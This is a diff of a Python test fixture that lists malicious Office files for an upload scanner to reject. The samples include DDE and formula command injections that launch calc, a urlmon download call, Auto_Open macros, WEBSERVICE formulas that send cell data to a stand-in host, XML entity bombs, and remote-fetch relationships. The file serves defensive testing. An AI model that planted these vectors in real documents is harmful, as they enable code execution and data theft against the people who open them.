@@ -1,14 +1,13 @@
 """Word and Excel files that must not be kept, each for one reason: what it fetches, runs, hides or carries."""
 
 from tests.services.forms.uploads import samples as s
+from tests.services.forms.uploads.bad_sheets import BOMB, EXCEL, OLE, SHARE
 from tests.services.forms.uploads.office import (
     MICROSOFT,
     OFFICE,
     SHEETS,
-    VML,
     WORDS,
     field,
-    formula,
     link,
     nested,
     rel,
@@ -20,10 +19,7 @@ from tests.services.forms.uploads.office import (
 )
 
 EXE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 200
-OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
-BOMB = '<!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;">]><a>&c;</a>'
 SCRIPTED = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
-SHARE = "\\\\x.example\\a"
 PNG, SVG = {".png": "image/png"}, {".svg": "image/svg+xml"}
 
 
@@ -40,11 +36,16 @@ def declared(name: str, **types: str) -> bytes:
 
 WORD: dict[str, tuple[bytes, str]] = {
     "Word that takes in a web page": (
-        word('<w:altChunk r:id="x1"/>', rel("aFChunk", "a.html"), types={".html": "text/html"}, more={"word/a.html": "a"}),
+        word(
+            '<w:altChunk r:id="x1"/>', rel("aFChunk", "a.html"), types={".html": "text/html"}, more={"word/a.html": "a"}
+        ),
         "embedded_file",
     ),
     "Word that takes in a page under a name of its own": (word('<w:altChunk r:id="x1"/>'), "embedded_file"),
-    "Word that fetches a picture by a field": (word(field('INCLUDEPICTURE "http://x.example/a.png"')), "fetches_content"),
+    "Word that fetches a picture by a field": (
+        word(field('INCLUDEPICTURE "http://x.example/a.png"')),
+        "fetches_content",
+    ),
     "Word that fetches a text by a field": (word(field("INCLUDETEXT C:\\\\a.txt")), "fetches_content"),
     "Word that asks a program by a field": (word(field('DDEAUTO c:\\\\cmd.exe "/k calc"')), "fetches_content"),
     "Word that asks a program by a field in pieces": (word(nested(run("DD"), run("E cmd a"))), "fetches_content"),
@@ -60,7 +61,10 @@ WORD: dict[str, tuple[bytes, str]] = {
     "Word with a short field": (word('<w:fldSimple w:instr=" DATABASE \\d a "/>'), "fetches_content"),
     "Word with a button for macros": (word(field("MACROBUTTON Chay bam vao day")), "fetches_content"),
     "Word with a field nobody knows": (word(field("WOBBLE")), "fetches_content"),
-    "Word with a field that is never closed": (word(run("<w:fldChar w:fldCharType='begin'/>") + run("DDE a b")), "fetches_content"),
+    "Word with a field that is never closed": (
+        word(run("<w:fldChar w:fldCharType='begin'/>") + run("DDE a b")),
+        "fetches_content",
+    ),
     "Word with a field that links to a script": (word(field('HYPERLINK "javascript:alert(1)"')), "unsafe_link"),
     "Word with a field that links to a share": (word(field('HYPERLINK "\\\\\\\\x.example\\\\a"')), "unsafe_link"),
     "Word with a field whose link is built": (
@@ -93,8 +97,14 @@ WORD: dict[str, tuple[bytes, str]] = {
         "fetches_content",
     ),
     "Word that fetches a picture": (word("", rel("image", "http://x.example/a.png", "External")), "fetches_content"),
-    "Word that fetches a picture behind a blank": (word("", rel("image", " //x.example/a", "External")), "fetches_content"),
-    "Word that fetches a picture as one of its own": (word("", rel("image", "http://x.example/a.png")), "fetches_content"),
+    "Word that fetches a picture behind a blank": (
+        word("", rel("image", " //x.example/a", "External")),
+        "fetches_content",
+    ),
+    "Word that fetches a picture as one of its own": (
+        word("", rel("image", "http://x.example/a.png")),
+        "fetches_content",
+    ),
     "Word that fetches a picture by a drawing": (
         word('<v:imagedata src="http://x.example/a.png"/>'),
         "fetches_content",
@@ -109,10 +119,16 @@ WORD: dict[str, tuple[bytes, str]] = {
         settings("<a:schema xmlns:a='urn:a' a:manifestLocation='http://x.example/a'/>"),
         "fetches_content",
     ),
-    "Word that fetches a chapter": (word("", rel("subDocument", "http://x.example/a.docx", "External")), "fetches_content"),
+    "Word that fetches a chapter": (
+        word("", rel("subDocument", "http://x.example/a.docx", "External")),
+        "fetches_content",
+    ),
     "Word that fetches a frame": (word("", rel("frame", "http://x.example/a.htm", "External")), "fetches_content"),
     "Word that fetches an object": (word("", rel("oleObject", "http://x.example/a", "External")), "embedded_file"),
-    "Word that fetches in a mode nobody knows": (word("", rel("image", "http://x.example/a", "Wobble")), "fetches_content"),
+    "Word that fetches in a mode nobody knows": (
+        word("", rel("image", "http://x.example/a", "Wobble")),
+        "fetches_content",
+    ),
     "Word with an object": (part("word/a.bin", f"{OFFICE}.oleObject", OLE), "embedded_file"),
     "Word with an object that is called a picture": (
         word("", rel("image", "a.png"), types=PNG, more={"word/a.png": OLE}),
@@ -175,7 +191,9 @@ WORD: dict[str, tuple[bytes, str]] = {
     "Word that defines entities in its relations": (declared("word/_rels/document.xml.rels"), "xml_entities"),
     "Word that defines entities in its data": (declared("customXml/item1.xml"), "xml_entities"),
     "Word that defines entities in its properties": (
-        declared("docProps/core.xml", **{"docProps/core.xml": "application/vnd.openxmlformats-package.core-properties+xml"}),
+        declared(
+            "docProps/core.xml", **{"docProps/core.xml": "application/vnd.openxmlformats-package.core-properties+xml"}
+        ),
         "xml_entities",
     ),
     "Word that defines entities in two bytes a letter": (
@@ -187,83 +205,6 @@ WORD: dict[str, tuple[bytes, str]] = {
         "damaged",
     ),
     "zip with an entry nobody lists": (s.unlisted(word()), "mixed_content"),
-}
-
-CONNECTIONS = {"xl/connections.xml": f"{SHEETS}.connections+xml"}
-
-EXCEL: dict[str, tuple[bytes, str]] = {
-    "Excel that fetches from a database": (sheet(types=CONNECTIONS, more={"xl/connections.xml": "<a/>"}), "fetches_content"),
-    "Excel that fetches from a query": (
-        sheet("", rel("queryTable", "../a.xml"), types={"xl/a.xml": f"{SHEETS}.queryTable+xml"}, more={"xl/a.xml": "<a/>"}),
-        "fetches_content",
-    ),
-    "Excel that takes numbers of another file": (
-        sheet(types={"xl/a.xml": f"{SHEETS}.externalLink+xml"}, more={"xl/a.xml": "<a/>"}),
-        "fetches_content",
-    ),
-    "Excel that takes numbers of a share": (sheet("", rel("externalLinkPath", SHARE, "External")), "fetches_content"),
-    "Excel with numbers that change by themselves": (
-        sheet(types={"xl/a.xml": f"{SHEETS}.volatileDependencies+xml"}, more={"xl/a.xml": "<a/>"}),
-        "fetches_content",
-    ),
-    "Excel that fetches by a formula": (formula('WEBSERVICE("https://x.example/?"&A1)'), "fetches_content"),
-    "Excel that fetches by a newer formula": (formula('_xlfn.WEBSERVICE("https://x.example")'), "fetches_content"),
-    "Excel that fetches a picture by a formula": (formula('_xlfn.IMAGE("https://x.example/a.png")'), "fetches_content"),
-    "Excel that asks a program by a formula": (formula("cmd|'/C calc'!A0"), "fetches_content"),
-    "Excel that asks a program in quotes": (formula("'cmd'|'/C calc'!'A0'"), "fetches_content"),
-    "Excel that asks a server": (formula('RTD("a.b",,"c")'), "fetches_content"),
-    "Excel that calls a library": (formula('CALL("urlmon","URLDownloadToFileA","JJ")'), "fetches_content"),
-    "Excel that runs a program by an old macro": (formula('1+EXEC("calc")'), "fetches_content"),
-    "Excel with a function of a program of its own": (formula("_xll.Wobble(1)"), "fetches_content"),
-    "Excel with a cell of another file": (formula("[1]Sheet1!A1+1"), "fetches_content"),
-    "Excel with a cell of a file on a share": (formula("'\\\\x.example\\[a.xlsx]Sheet1'!A1"), "fetches_content"),
-    "Excel with a link in a formula to a share": (formula('HYPERLINK("\\\\x.example\\a","Xem")'), "unsafe_link"),
-    "Excel with a link in a formula to a script": (formula('HYPERLINK("javascript:a")'), "unsafe_link"),
-    "Excel with a link that is calculated": (formula('HYPERLINK("ht"&A1,"Xem")'), "unsafe_link"),
-    "Excel with a link to a share": (sheet("", rel("hyperlink", SHARE, "External")), "unsafe_link"),
-    "Excel with a link to a help program": (sheet("", rel("hyperlink", "ms-msdt:/id", "External")), "unsafe_link"),
-    "Excel that asks a program by a name": (
-        sheet(book="<definedNames><definedName name='a'>cmd|'/C calc'!A0</definedName></definedNames>"),
-        "fetches_content",
-    ),
-    "Excel with a name that starts by itself": (
-        sheet(book="<definedNames><definedName name='_xlnm.Auto_Open' xlm='1'>a!$A$1</definedName></definedNames>"),
-        "macros",
-    ),
-    "Excel that asks a program by a colour": (
-        sheet("<conditionalFormatting><cfRule><formula>cmd|'/C calc'!A0</formula></cfRule></conditionalFormatting>"),
-        "fetches_content",
-    ),
-    "Excel that fetches when somebody types": (
-        sheet('<dataValidations><dataValidation><formula1>WEBSERVICE("https://x")</formula1></dataValidation></dataValidations>'),
-        "fetches_content",
-    ),
-    "Excel that asks a program by a link": (sheet("<ddeLink ddeService='cmd' ddeTopic='/C calc'/>"), "fetches_content"),
-    "Excel with an object": (sheet("<oleObjects><oleObject progId='Package'/></oleObjects>"), "embedded_file"),
-    "Excel that publishes itself": (
-        sheet("<webPublishItems><webPublishItem destinationFile='a'/></webPublishItems>"),
-        "acts_by_itself",
-    ),
-    "Excel with a sheet of macros": (
-        sheet(types={"xl/a.xml": "application/vnd.ms-excel.macrosheet+xml"}, more={"xl/a.xml": "<a/>"}),
-        "macros",
-    ),
-    "Excel with a model of data": (
-        sheet(types={"xl/a.data": "application/vnd.openxmlformats-officedocument.model+data"}, more={"xl/a.data": "a"}),
-        "unknown_part",
-    ),
-    "Excel that defines entities in its cells": (sheet(more={"xl/worksheets/sheet1.xml": BOMB}), "xml_entities"),
-    "Excel with a drawing that defines entities": (
-        sheet(types={".vml": f"{OFFICE}.vmlDrawing"}, more={"xl/a.vml": BOMB}),
-        "xml_entities",
-    ),
-    "Excel that fetches a picture by an old drawing": (
-        sheet(
-            types={".vml": f"{OFFICE}.vmlDrawing"},
-            more={"xl/a.vml": f'<xml xmlns:v="{VML}"><v:fill src="//x.example/a.png"/></xml>'},
-        ),
-        "fetches_content",
-    ),
 }
 
 BAD_OFFICE = {name: ("don.docx", *row) for name, row in WORD.items()} | {
